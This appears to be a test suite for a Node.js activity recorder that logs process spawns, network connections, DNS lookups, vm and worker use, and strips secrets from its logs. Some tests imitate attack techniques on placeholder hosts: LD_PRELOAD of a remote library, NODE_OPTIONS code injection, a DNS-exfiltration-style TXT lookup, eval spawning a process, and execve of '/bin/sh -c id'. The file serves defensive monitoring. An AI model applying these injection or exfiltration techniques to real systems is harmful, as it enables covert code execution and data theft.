/** Each hook in a process of its own: what it tells, that nothing public is replaced, and where it stays away. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { HOOKS } from '../../src/record/hooks/index.ts';
import { recorded } from './recorded.ts';

const NODE = process.execPath;

describe('children', () => {
  test('are told of by every way of starting them, with arguments, pipes and who did it', async () => {
    const { of } = await recorded(`
      const cp = require('node:child_process');
      const over = (child) => new Promise((done) => child.on('close', done));
      const js = folder + '/child.js';
      require('node:fs').writeFileSync(js, '');
      cp.execSync('true one');
      cp.spawnSync('true', ['two']);
      cp.execFileSync('true', ['three']);
      await over(cp.spawn('true', ['four'], { stdio: ['ignore', 'inherit', 2] }));
      await over(cp.exec('true five'));
      await over(cp.execFile('true', ['six']));
      await over(cp.fork(js, ['seven'], { execPath: process.execPath }));
    `);
    const spawns = of('spawn');
    assert.deepEqual(
      spawns.map(({ subject, argv }) => [subject.split('/').at(-1), argv?.at(-1)]),
      [
        ['sh', 'true one'],
        ['true', 'two'],
        ['true', 'three'],
        ['true', 'four'],
        ['sh', 'true five'],
        ['true', 'six'],
        [NODE.split('/').at(-1), 'seven'],
      ],
    );
    for (const { origin } of spawns) assert.match(origin?.[0] ?? '', /function\.cjs$/u);
    assert.deepEqual(spawns[3]?.lineage?.stdio, ['ignore', 'inherit', 'fd 2']);
    assert.ok(spawns.slice(3).every(({ lineage }) => Number(lineage?.child) > 1));
  });

  test('that are led elsewhere by a variable are told of with it, without user and query', async () => {
    const { of } = await recorded(
      `
      const cp = require('node:child_process');
      cp.spawnSync('true', [], { env: { ...process.env, NODE_OPTIONS: '--import data:text/javascript,1', OTHER: 'x' } });
      cp.spawnSync('true', ['2'], { env: { LD_PRELOAD: 'http://user:word@example.com/x.so?token=1' } });
      cp.spawnSync('true', ['3']);
    `,
      { env: { NODE_OPTIONS: '--no-warnings' } },
    );
    assert.deepEqual(
      of('spawn').map(({ detail }) => detail?.['env']),
      ['NODE_OPTIONS=--import data:text/javascript,1', 'LD_PRELOAD=http://example.com/x.so?', undefined],
    );
  });

  test('that cannot be started fail as they do without the recorder', async () => {
    const { stdout, of } = await recorded(`
      const cp = require('node:child_process');
      const sync = cp.spawnSync('/absent');
      cp.spawn('/absent').on('error', (error) => console.log(sync.error.code, error.code, error.syscall));
      try { cp.spawn('x', { cwd: 1 }); } catch (error) { console.log(error.code); }
      await new Promise((done) => setTimeout(done, 50));
    `);
    assert.equal(stdout, 'ERR_INVALID_ARG_TYPE\nENOENT ENOENT spawn /absent\n');
    assert.deepEqual(
      of('spawn').map(({ count }) => count),
      [1, 2],
    );
  });
});

const SERVER = `
  const http = require('node:http');
  const net = require('node:net');
  const server = http.createServer((request, response) => response.end('ok'));
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address();
  console.log(port);
`;

describe('the network', () => {
  test('connections are told of with address, port and the code that asked, also after a lookup', async () => {
    const { of, stdout } = await recorded(`${SERVER}
      const over = (socket) => new Promise((done) => socket.on('connect', () => done(socket.destroy())).on('error', done));
      await over(net.connect(port, '127.0.0.1'));
      await over(new net.Socket().connect(port, 'localhost'));
      await over(net.connect('/tmp/absent.sock'));
      await over(net.connect({ host: '::1', port: 9 }));
    `);
    const port = stdout.trim();
    const told = of('connect').map(({ subject, count }) => `${subject} ${count}`);
    assert.ok(told.includes(`127.0.0.1:${port} 1`), told.join());
    assert.ok(told.includes('unix:/tmp/absent.sock 1') && told.includes('[::1]:9 1'), told.join());
    for (const { origin } of of('connect')) assert.match(origin?.[0] ?? '', /function\.cjs$/u);
    assert.deepEqual(
      of('listen').map(({ subject }) => subject),
      [`127.0.0.1:${port}`],
    );
  });

  test('requests are told of without path, and by `paths` with it; never with query or user', async () => {
    const code = `${SERVER}
      const over = (request) => new Promise((done) => request.on('response', (r) => r.resume().on('end', done)).on('error', done).end());
      await over(http.request('http://user:word@localhost:' + port + '/a/b?token=1#x', { method: 'PUT', headers: { authorization: 'secret' } }));
      await (await fetch('http://localhost:' + port + '/c/d?token=1')).text();
      await over(http.request({ host: '127.0.0.1', port, path: '/2018-06-01/runtime/invocation/next?x=1' }));
    `;
    const events = await recorded(code);
    const port = events.stdout.trim();
    assert.deepEqual(
      events.of('request').map(({ subject }) => subject),
      [
        'PUT http://localhost',
        `GET http://localhost:${port}`,
        'GET http://127.0.0.1/2018-06-01/runtime/invocation/next',
      ],
    );
    const paths = await recorded(code, { level: 'paths' });
    assert.deepEqual(
      paths.of('request').map(({ subject }) => subject.replace(/:\d+/u, '')),
      [
        'PUT http://localhost/a/b',
        'GET http://localhost/c/d',
        'GET http://127.0.0.1/2018-06-01/runtime/invocation/next',
      ],
    );
    for (const one of [events, paths]) assert.doesNotMatch(JSON.stringify(one.events), /token|word|secret/u);
  });

  test('names are cut to the domain and measured, and by `paths` whole', async () => {
    const code = `
      const dns = require('node:dns');
      dns.setServers(['127.0.0.1:9']);
      const resolver = new dns.promises.Resolver({ timeout: 10, tries: 1 });
      resolver.setServers(['127.0.0.1:9']);
      await resolver.resolveTxt('ab12cd34ef56.Exfil.Example.co.uk').catch(() => 0);
      await dns.promises.lookup('localhost').catch(() => 0);
    `;
    const told = async (level: 'events' | 'paths'): Promise<unknown[]> =>
      (await recorded(code, { level })).of('resolve').map(({ subject, detail }) => [subject, detail]);
    assert.deepEqual(await told('events'), [
      ['example.co.uk', { type: 'txt', length: 32, label: 12 }],
      ['localhost', { type: 'address', length: 9, label: 9 }],
    ]);
    assert.equal(((await told('paths'))[0] as string[])[0], 'ab12cd34ef56.exfil.example.co.uk');
  });

  test('datagrams are told of with address and port', async () => {
    const { of } = await recorded(`
      const socket = require('node:dgram').createSocket('udp4');
      await new Promise((done) => socket.send('x', 9, '127.0.0.1', () => done(socket.close())));
    `);
    assert.deepEqual(
      of('datagram').map(({ subject }) => subject),
      ['127.0.0.1:9'],
    );
  });
});

describe('code', () => {
  test('threads and scripts of vm are told of with who runs them; eval is named as an origin', async () => {
    const { of } = await recorded(`
      const { Worker } = require('node:worker_threads');
      await new Promise((done) => new Worker('1', { eval: true }).on('exit', done));
      require('node:vm').runInNewContext('1');
      (0, eval)("process.getBuiltinModule('node:child_process').spawnSync('true', ['evil'])");
    `);
    assert.match(of('worker')[0]?.origin?.[0] ?? '', /function\.cjs$/u);
    assert.match(of('vm')[0]?.origin?.[0] ?? '', /function\.cjs$/u);
    assert.equal(of('spawn')[0]?.origin?.[0], 'eval');
  });

  test('modules and addons are told of once init is over', async () => {
    const { of } = await recorded(`
      const { writeFileSync } = require('node:fs');
      writeFileSync(folder + '/late.js', '');
      writeFileSync(folder + '/late.node', '');
      begins(1);
      begins(2);
      require(folder + '/late.js');
      require(folder + '/late.js');
      // As a native module that was loaded stands there.
      require.cache[folder + '/late.node'] = { loaded: true, exports: {} };
      begins(3);
      begins(4);
    `);
    assert.deepEqual(
      of('module').map(({ subject, count, invocation }) => [subject.split('/').at(-1), count, invocation]),
      [['late.js', 1, 3]],
    );
    assert.match(of('addon')[0]?.subject ?? '', /late\.node$/u);
  });

  test('a module that is loaded has no frame of ours or of a channel in its stack', async () => {
    const { of } = await recorded(`
      const { writeFileSync } = require('node:fs');
      writeFileSync(folder + '/who.js', 'exports.frames = new Error().stack;');
      begins(1);
      begins(2);
      const { frames } = require(folder + '/who.js');
      require('node:child_process').spawnSync('true', [/diagnostics_channel|src\\/record/u.test(frames) ? 'seen' : 'unseen']);
    `);
    assert.deepEqual(
      of('spawn').map(({ argv }) => argv?.at(-1)),
      ['unseen'],
    );
  });

  test('execve is told of before the process is another program', {
    skip: typeof process.execve !== 'function',
  }, async () => {
    const { of } = await recorded(`
      require('node:diagnostics_channel').channel('process.execve').publish({ execPath: '/bin/sh', args: ['sh', '-c', 'id'] });
    `);
    assert.deepEqual(
      of('execve').map(({ subject, argv }) => [subject, argv]),
      [['/bin/sh', ['sh', '-c', 'id']]],
    );
  });
});

describe('the function', () => {
  test('sees every public function as it is without the recorder', async () => {
    const code = `
      const parts = { child_process: require('child_process'), net: require('net'), dns: require('dns'), http: require('http'), vm: require('vm'), dgram: require('dgram'), process };
      for (const [name, part] of Object.entries(parts))
        for (const key of Object.keys(part).sort()) {
          const { value } = Object.getOwnPropertyDescriptor(part, key) ?? {};
          if (typeof value === 'function') console.log(name, key, value.name, value.length, Function.prototype.toString.call(value).length);
        }
    `;
    const bare = await recorded(code, { env: { BARE: '1' } });
    const armed = await recorded(code);
    assert.ok(bare.stdout.split('\\n').length > 0);
    assert.equal(armed.stdout, bare.stdout);
    assert.deepEqual([armed.stderr, bare.stderr], ['', '']);
  });

  for (const [flag, env] of [
    ['--permission', {}],
    ['--pending-deprecation', {}],
    ['', { NODE_PENDING_DEPRECATION: '1' }],
  ] as const) {
    test(`is left alone under ${flag || Object.keys(env).join()}, which is said, and channels tell the rest`, async () => {
      const allow = flag === '--permission' ? ['--allow-fs-read=*', '--allow-fs-write=*', '--allow-worker'] : [];
      const { of, stderr } = await recorded(
        `${SERVER} await (await fetch('http://127.0.0.1:' + port + '/x')).text();`,
        { flags: flag === '' ? [] : [flag, ...allow], env },
      );
      assert.deepEqual(
        of('away').map(({ subject }) => subject),
        ['bindings'],
      );
      assert.equal(of('request').length, 1);
      assert.equal(of('connect').length, 0);
      assert.doesNotMatch(stderr, /DEP0111/u);
    });
  }

  test('has every hook armed otherwise', async () => {
    const { of } = await recorded('');
    assert.deepEqual(of('away'), []);
    assert.equal(new Set(HOOKS.map(({ name }) => name)).size, HOOKS.length);
  });
});
